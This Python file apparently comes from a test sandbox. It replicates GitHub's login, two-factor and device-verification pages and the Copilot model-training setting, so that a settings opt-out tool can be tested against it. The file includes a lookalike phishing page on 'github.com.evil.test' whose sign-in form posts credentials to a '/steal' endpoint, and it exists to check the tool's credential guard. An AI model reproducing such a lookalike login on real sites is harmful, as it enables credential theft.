"""GitHub replica: password sign-in (with the authenticator-app 2FA page and the e-mailed device
verification page) and the Copilot settings page, whose training choice is a dropdown (a native
<select> here) reading "Enabled" or "Disabled". A Copilot Business/Enterprise seat (`absent`)
shows no such dropdown, only that the seat is managed by an organisation.

Form field names and the /session, /sessions/two-factor/app and /sessions/verified-device paths
follow docs/research/platforms.md §25; the rest of the markup, the organisation text and the save endpoint are the
replica's own."""

from __future__ import annotations

import html
from urllib.parse import quote, urlsplit

from optout.sandbox.kit.onesetting import OneSettingReplica
from optout.sandbox.replica import Request, Response, page, redirect

LOOKALIKE_HOST = "github.com.evil.test"


class GitHub(OneSettingReplica):
    platform = "github"
    hosts = ("github.com", LOOKALIKE_HOST)
    settings = ("copilot-training",)
    setting = "copilot-training"
    session_cookie = ("user_session", "github.com")
    setting_url = "https://github.com/settings/copilot/features"
    signin_url = "https://github.com/login"
    save_path = "/settings/copilot/_replica/policy"
    title = "GitHub Copilot"
    page_heading = "Copilot"
    heading = "Privacy"
    kind = "select"
    label = "Allow GitHub to use my data for AI model training"
    changed_label = "Share my Copilot interactions to improve models"
    choices = ("Disabled", "Enabled")
    foreign = (
        "de",
        "GitHub erlauben, meine Daten für das Training von KI-Modellen zu verwenden",
        ("Deaktiviert", "Aktiviert"),
    )

    def frame(self, section: str) -> str:
        return (
            '<meta name="user-login" content="octocat-demo">'
            f"<h1>{html.escape(self.page_heading)}</h1>{section}"
        )

    def absent_section(self) -> str:
        return """
<section>
  <h2>GitHub Copilot Business is active for your account</h2>
  <p>You are assigned a seat as part of a GitHub Copilot Business subscription managed by example-org.</p>
</section>"""

    # --- sign-in ---------------------------------------------------------------------------------

    def signin(self, req: Request, host: str, path: str) -> Response | None:
        if host == LOOKALIKE_HOST:
            return self.login_page(req, lookalike=True)
        if path == "/login":
            if self.misbehaves("lookalike_login") and "return_to" not in req.query:
                # Only the sign-in page opened directly (as optout's sign-in does): the settings
                # page's own redirect still lands here, so the credential guard is what is tested.
                return redirect(f"https://{LOOKALIKE_HOST}/login")
            if self.user(req) is not None:
                return redirect(
                    self.safe_target(req.query.get("return_to") or "https://github.com/")
                )
            return self.login_page(req)
        if path == "/session" and req.method == "POST":
            return self.login_submit(req)
        if path == "/sessions/two-factor/app":
            if req.method == "POST":
                return self.verify_totp(req)
            return self.two_factor_page(req.query.get("return_to", ""), req.query.get("who", ""))
        if path == "/sessions/verified-device":
            return page(
                """<h1>Device verification</h1>
<p>We just sent your authentication code via email. The code will expire at 12:00 UTC.</p>
<form method="post"><label for="otp">Device Verification Code</label>
<input id="otp" name="otp" autocomplete="one-time-code"><button type="submit">Verify</button></form>""",
                title="Device verification · GitHub",
            )
        if path == "/" and req.method == "GET":
            if self.user(req) is None:
                return page(
                    "<h1>Build and ship software on a single platform</h1><a href='/login'>Sign in</a>",
                    title="GitHub",
                )
            return page(
                '<meta name="user-login" content="octocat-demo"><h1>Dashboard</h1>', title="GitHub"
            )
        return None

    def login_page(self, req: Request, *, error: str = "", lookalike: bool = False) -> Response:
        target = html.escape(req.query.get("return_to", req.form.get("return_to", "")))
        action = f"https://{LOOKALIKE_HOST}/steal" if lookalike else "/session"
        flash = (
            f'<div class="flash flash-error" role="alert">{html.escape(error)}</div>'
            if error
            else ""
        )
        return page(
            f"""
<h1>Sign in to GitHub</h1>{flash}
<form method="post" action="{action}">
  <input type="hidden" name="return_to" value="{target}">
  <label for="login_field">Username or email address</label>
  <input id="login_field" name="login" type="text" autocomplete="username">
  <label for="password">Password</label>
  <input id="password" name="password" type="password" autocomplete="current-password">
  <input type="submit" name="commit" value="Sign in">
</form>""",
            title="Sign in to GitHub · GitHub",
        )

    def login_submit(self, req: Request) -> Response:
        username, password = req.form.get("login", ""), req.form.get("password", "")
        ok = self.check_password(username, password)
        if not ok:
            return self.login_page(req, error="Incorrect username or password.")
        target = req.form.get("return_to") or "https://github.com/"
        if self.misbehaves("checkpoint"):
            return redirect("/sessions/verified-device")
        if self.wants_code(username):
            return redirect(
                f"/sessions/two-factor/app?return_to={quote(target, safe='')}&who={quote(username)}"
            )
        return self.signed_in_redirect(target, username)

    def two_factor_page(self, target: str, username: str, error: str = "") -> Response:
        flash = (
            f'<div class="flash flash-error" role="alert">{html.escape(error)}</div>'
            if error
            else ""
        )
        return page(
            f"""
<h1>Two-factor authentication</h1>{flash}
<form method="post" action="/sessions/two-factor/app">
  <input type="hidden" name="return_to" value="{html.escape(target)}">
  <input type="hidden" name="who" value="{html.escape(username)}">
  <label for="app_totp">Authentication code</label>
  <input id="app_totp" name="app_otp" type="text" autocomplete="one-time-code" inputmode="numeric">
  <button type="submit">Verify</button>
</form>""",
            title="Two-factor authentication · GitHub",
        )

    def verify_totp(self, req: Request) -> Response:
        username = req.form.get("who", "")
        ok = self.check_code(username, req.form.get("app_otp", ""), event="totp")
        target = req.form.get("return_to") or "https://github.com/"
        if not ok:
            return self.two_factor_page(target, username, error="Two-factor authentication failed.")
        return self.signed_in_redirect(target, username)

    def safe_target(self, target: str) -> str:
        if target.startswith("/") and not target.startswith("//"):
            target = "https://github.com" + target
        return target if urlsplit(target).hostname == "github.com" else "https://github.com/"
